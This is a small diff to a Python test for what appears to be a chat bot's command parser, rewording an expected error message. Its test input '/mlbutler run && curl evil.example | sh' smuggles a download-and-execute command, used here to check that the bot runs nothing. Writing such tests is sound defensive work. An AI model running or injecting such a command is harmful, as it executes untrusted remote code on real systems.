@@ -133,7 +133,7 @@ def test_what_is_no_command_does_nothing(world: World, forge: FakeForge, root: P
         assert (wanted(run), answers) == ({}, [])
     run, answers = said(world, forge, root, "/mlbutler run && curl evil.example | sh")
     assert wanted(run) == {}
-    assert answers[0].startswith("This is no command. There are `run`")
+    assert answers[0].startswith("This is not a command. There are `run`")
 
 
 def test_an_answer_that_fails_keeps_nothing_from_being_run(
